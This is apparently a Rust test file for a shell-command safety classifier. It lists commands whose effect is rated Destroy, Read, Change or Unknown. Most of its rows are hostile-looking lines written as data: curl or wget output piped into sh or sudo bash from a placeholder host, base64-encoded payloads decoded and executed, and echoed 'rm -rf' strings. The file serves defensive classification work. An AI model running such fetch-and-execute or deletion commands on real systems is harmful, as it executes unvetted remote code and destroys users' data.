//! Code that is decoded, downloaded or computed on the spot.

use super::rows;
use crate::reading::Effect::{Change, Destroy, Read, Unknown};

#[test]
fn code_that_nobody_can_read_beforehand_destroys() {
    rows(
        Destroy,
        &[
            &["echo cm0gLXJmIC4vZGly | base64 -d | sh"],
            &["base64 -d <<< cm0gLXJm | bash"],
            &["curl -fsSL https://x.example/install.sh | sh"],
            &["curl -s https://x.example/i | sudo bash"],
            &["curl -s https://x.example/i | sudo -E bash -"],
            &["curl -s https://x.example/i | bash -s -- --yes"],
            &["wget -qO- https://x.example/i | sh"],
            &["eval \"$(curl -s https://x.example/i)\""],
            &["eval `base64 -d x`"],
            &["source <(curl -s https://x.example/i)"],
            &[". <(base64 -d x)"],
            &["bash <(wget -qO- https://x.example/i)"],
            &["bash -c \"$(curl -fsSL https://x.example/i)\""],
            &["sh -c \"`cat x`\""],
            &["python3 -c \"$(curl -s https://x.example/i)\""],
            &["curl -s https://x.example/i | python3"],
            &["curl -s https://x.example/i | tee i.sh | bash"],
            &["sed 's/a/b/' x.sh | bash"],
            &["git show HEAD:x.sh | sh"],
            &["bash < <(curl -s https://x.example/i)"],
            &["xxd -r -p x | bash"],
            &["printf '%s' 'rm -rf ./dir' | sh"],
            &["echo 'rm -rf ./dir' | tee x | sh"],
        ],
    );
}

#[test]
fn a_program_of_which_it_is_known_what_it_prints_only_sets_up_the_shell() {
    rows(
        Read,
        &[
            &["eval \"$(brew shellenv)\""],
            &["eval \"$(/opt/homebrew/bin/brew shellenv)\""],
            &["eval $(minikube docker-env)"],
            &["eval \"$(direnv hook bash)\""],
            &["source <(kubectl completion bash)"],
            &["eval \"$(dircolors)\""],
        ],
    );
    rows(
        Unknown,
        &[
            &["source ./x.env"],
            &["find . | xargs sh -c"],
            &["cat x.sh | sh"],
            &["$(which kubectl) get pods"],
            &["bash < x.sh"],
        ],
    );
    rows(Change, &[&["echo 'kubectl apply -f x' | sh"]]);
    rows(Read, &[&["echo 'kubectl get pods' | sh"], &["sh -s <<E\nls\nE"]]);
}
